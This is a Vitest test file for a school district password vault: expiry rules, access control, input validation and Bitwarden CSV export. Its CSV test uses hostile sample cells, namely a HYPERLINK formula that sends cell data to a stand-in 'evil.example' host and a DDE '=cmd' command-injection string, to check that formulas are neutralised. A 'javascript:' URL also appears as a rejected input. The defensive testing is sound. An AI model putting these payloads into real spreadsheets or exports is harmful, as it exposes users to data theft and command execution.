import { describe, expect, it } from 'vitest';
import {
  BITWARDEN_COLUMNS,
  bitwardenRow,
  canSeeEntry,
  checkImportRow,
  createVaultEntrySchema,
  fromBitwardenRecord,
  hasSecurityAlert,
  isExpired,
  isExpiringSoon,
  isRecentlyAccessed,
  VAULT_MESSAGES as M,
  mayExport,
  strengthOfScore,
  updateVaultEntrySchema,
  type VaultExportEntry,
} from './vault.ts';

const base = {
  title: 'PowerSchool admin',
  password: ' s3cret with spaces ',
  category: 'Student Information System',
  department: 'IT Administration',
  accessLevel: 'admin',
};
const firstMessage = (input: unknown) => {
  const r = createVaultEntrySchema.safeParse(input);
  return r.success ? null : r.error.issues[0]!.message;
};

describe('status rules (spec 4)', () => {
  const today = '2026-03-14';
  it('is expired only after the expiry day', () => {
    expect(isExpired('2026-03-13', today)).toBe(true);
    expect(isExpired('2026-03-14', today)).toBe(false);
    expect(isExpired(null, today)).toBe(false);
  });
  it('is expiring soon from today through 30 days ahead', () => {
    expect(isExpiringSoon('2026-03-14', today)).toBe(true);
    expect(isExpiringSoon('2026-04-13', today)).toBe(true);
    expect(isExpiringSoon('2026-04-14', today)).toBe(false);
    expect(isExpiringSoon('2026-03-13', today)).toBe(false);
    expect(isExpiringSoon(null, today)).toBe(false);
  });
  it('is recently accessed within 3 days', () => {
    const now = new Date('2026-03-14T12:00:00Z');
    expect(isRecentlyAccessed('2026-03-11T12:00:00Z', now)).toBe(true);
    expect(isRecentlyAccessed('2026-03-11T11:59:00Z', now)).toBe(false);
    expect(isRecentlyAccessed(null, now)).toBe(false);
  });
  it('raises a security alert for weak, expired, expiring or reused passwords', () => {
    const ok = { strength: 'strong', isExpired: false, isExpiringSoon: false, isReused: false } as const;
    expect(hasSecurityAlert(ok)).toBe(false);
    expect(hasSecurityAlert({ ...ok, strength: 'weak' })).toBe(true);
    expect(hasSecurityAlert({ ...ok, strength: 'medium' })).toBe(false);
    expect(hasSecurityAlert({ ...ok, isExpired: true })).toBe(true);
    expect(hasSecurityAlert({ ...ok, isExpiringSoon: true })).toBe(true);
    expect(hasSecurityAlert({ ...ok, isReused: true })).toBe(true);
  });
});

describe('strength', () => {
  it('maps zxcvbn scores to weak, medium and strong', () => {
    expect([0, 1, 2, 3, 4].map(strengthOfScore)).toEqual(['weak', 'weak', 'medium', 'medium', 'strong']);
  });
});

describe('who sees an entry (spec 3)', () => {
  const entry = (accessLevel: 'admin' | 'department' | 'public') => ({
    accessLevel,
    department: 'Facilities',
  });
  it('shows everything to district administrators', () => {
    for (const level of ['admin', 'department', 'public'] as const)
      expect(canSeeEntry({ role: 'district_admin', department: null }, entry(level))).toBe(true);
  });
  it('keeps Admin Only entries from everyone else', () => {
    expect(canSeeEntry({ role: 'technician', department: 'Facilities' }, entry('admin'))).toBe(false);
    expect(canSeeEntry({ role: 'viewer', department: 'Facilities' }, entry('admin'))).toBe(false);
  });
  it('shows Department entries to that department only', () => {
    expect(canSeeEntry({ role: 'technician', department: 'Facilities' }, entry('department'))).toBe(true);
    expect(canSeeEntry({ role: 'technician', department: 'Business Office' }, entry('department'))).toBe(
      false,
    );
    expect(canSeeEntry({ role: 'technician', department: null }, entry('department'))).toBe(false);
    expect(canSeeEntry({ role: 'viewer', department: 'Facilities' }, entry('department'))).toBe(true);
  });
  it('shows All Staff entries to every user but viewers', () => {
    expect(canSeeEntry({ role: 'technician', department: null }, entry('public'))).toBe(true);
    expect(canSeeEntry({ role: 'viewer', department: null }, entry('public'))).toBe(false);
  });
  it('lets administrators always export, technicians when the district allows', () => {
    expect(mayExport('district_admin', [])).toBe(true);
    expect(mayExport('technician', [])).toBe(false);
    expect(mayExport('technician', ['technician'])).toBe(true);
    expect(mayExport('viewer', ['technician'])).toBe(false);
  });
});

describe('Add Password payload', () => {
  it('accepts a complete entry and keeps the password exactly', () => {
    const r = createVaultEntrySchema.parse({
      ...base,
      url: 'https://sis.example.org/admin',
      expiryDate: '2027-01-01',
      sharedWith: ['Principal', 'Principal', ' '],
      twoFactorBackup: '',
      notes: 'rotate yearly',
    });
    expect(r.password).toBe(' s3cret with spaces ');
    expect(r.sharedWith).toEqual(['Principal']);
    expect(r.twoFactorBackup).toBeNull();
    expect(r.notes).toBe('rotate yearly');
    expect(r.url).toBe('https://sis.example.org/admin');
  });
  it('says what is wrong', () => {
    expect(firstMessage({ ...base, title: ' ' })).toBe(M.titleRequired);
    expect(firstMessage({ ...base, password: '' })).toBe(M.passwordRequired);
    expect(firstMessage({ ...base, url: 'javascript:alert(1)' })).toBe(M.invalidUrl);
    expect(firstMessage({ ...base, url: 'ftp://files.example.org' })).toBe(M.invalidUrl);
    expect(firstMessage({ ...base, category: 'Games' })).toBe(M.invalidCategory);
    expect(firstMessage({ ...base, department: 'Cafeteria' })).toBe(M.invalidDepartment);
    expect(firstMessage({ ...base, accessLevel: 'everyone' })).toBe(M.invalidAccessLevel);
    expect(firstMessage({ ...base, expiryDate: '14/03/2026' })).toBe(M.invalidDate);
    expect(firstMessage({ ...base, password: 'a\u0000b' })).toBe(M.controlCharacters);
  });
  it('keeps secrets left out of an edit and clears those set to empty', () => {
    const r = updateVaultEntrySchema.parse({ ...base, password: '', twoFactorBackup: '', notes: undefined });
    expect(r.password).toBeUndefined();
    expect(r.twoFactorBackup).toBeNull();
    expect(r.notes).toBeUndefined();
  });
});

describe('Bitwarden CSV', () => {
  const entry: VaultExportEntry = {
    title: 'Firewall',
    username: 'admin',
    url: 'https://fw.example.org',
    category: 'Network Infrastructure',
    department: 'IT Infrastructure',
    accessLevel: 'department',
    sharedWith: ['Network team', 'CTO'],
    expiryDate: '2026-09-01',
    isFavorite: true,
    password: 'p,a"ss',
    twoFactorBackup: 'one\ntwo',
    notes: 'Rack 2',
  };
  it('writes the columns in Bitwarden order', () => {
    const row = bitwardenRow(entry);
    expect(row).toHaveLength(BITWARDEN_COLUMNS.length);
    expect(row[BITWARDEN_COLUMNS.indexOf('name')]).toBe('Firewall');
    expect(row[BITWARDEN_COLUMNS.indexOf('login_password')]).toBe('p,a"ss');
    expect(row[BITWARDEN_COLUMNS.indexOf('type')]).toBe('login');
    expect(row[BITWARDEN_COLUMNS.indexOf('favorite')]).toBe('1');
  });
  it('reads back what it wrote', () => {
    const record = Object.fromEntries(BITWARDEN_COLUMNS.map((c, i) => [c, bitwardenRow(entry)[i]!]));
    const row = fromBitwardenRecord(record, {
      category: 'Student Information System',
      department: 'IT Administration',
      accessLevel: 'admin',
    });
    const checked = checkImportRow(row);
    expect(checked.ok).toBe(true);
    if (!checked.ok) return;
    expect(checked.entry).toMatchObject({
      title: 'Firewall',
      username: 'admin',
      url: 'https://fw.example.org',
      category: 'Network Infrastructure',
      department: 'IT Infrastructure',
      accessLevel: 'department',
      sharedWith: ['Network team', 'CTO'],
      expiryDate: '2026-09-01',
      password: 'p,a"ss',
      twoFactorBackup: 'one\ntwo',
      notes: 'Rack 2',
    });
  });
  it('neutralises formulas in every cell but the password, and reads them back exactly', () => {
    const risky = {
      ...entry,
      title: '=HYPERLINK("https://evil.example/?"&A1,"Open")',
      username: "=cmd|' /C calc'!A0",
      notes: '@SUM(1+1)',
      password: '=Exact-Secret+1',
    };
    const row = bitwardenRow(risky);
    const at = (c: (typeof BITWARDEN_COLUMNS)[number]) => row[BITWARDEN_COLUMNS.indexOf(c)];
    expect(at('name')).toBe(`'${risky.title}`);
    expect(at('login_username')).toBe(`'${risky.username}`);
    expect(at('notes')).toBe("'@SUM(1+1)");
    expect(at('login_password')).toBe('=Exact-Secret+1');
    const back = fromBitwardenRecord(Object.fromEntries(BITWARDEN_COLUMNS.map((c, i) => [c, row[i]!])), {
      category: 'Student Information System',
      department: 'IT Administration',
      accessLevel: 'admin',
    });
    expect(back).toMatchObject({
      title: risky.title,
      username: risky.username,
      notes: risky.notes,
      password: risky.password,
    });
  });
  it('names the field of a rejected row', () => {
    const row = fromBitwardenRecord(
      { name: 'No password' },
      {
        category: 'Student Information System',
        department: 'IT Administration',
        accessLevel: 'admin',
      },
    );
    expect(checkImportRow(row)).toEqual({ ok: false, message: `password: ${M.passwordRequired}` });
  });
});
